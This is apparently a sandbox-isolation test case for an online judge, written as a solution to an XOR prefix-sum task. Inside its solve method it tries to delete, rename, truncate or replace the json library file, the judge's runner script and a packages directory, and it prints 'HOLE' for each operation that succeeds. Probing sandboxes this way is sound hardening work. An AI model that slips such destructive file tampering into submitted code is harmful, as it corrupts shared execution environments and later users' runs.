# tries: to remove or rename what the next program needs
# verdict: AC
# within: 1.5
import json
import os
from itertools import accumulate


class Solution:
    def solve(self, nums, key):
        file = json.__file__
        changes = [
            (os.remove, [file]),
            (os.rename, [file, file + ".old"]),
            (os.replace, ["/judge/runner.py", "/judge/child.py"]),
            (os.truncate, [file, 0]),
            (os.rmdir, ["/packages"]),
        ]
        for change, given in changes:
            try:
                change(*given)
            except OSError:
                pass
            else:
                print("HOLE:", change.__name__, given)
        return [total ^ key for total in accumulate(nums)]
